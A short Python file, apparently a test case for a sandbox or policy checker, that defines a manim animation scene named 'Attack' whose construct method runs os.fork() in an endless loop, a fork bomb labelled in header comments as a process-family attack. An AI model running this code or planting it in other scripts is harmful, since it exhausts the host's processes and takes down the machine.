# family: process
# layer: policy
# attack: os.fork in a loop
import os
from manim import *


class Attack(Scene):
    def construct(self):
        while True:
            os.fork()
        self.wait(0.1)
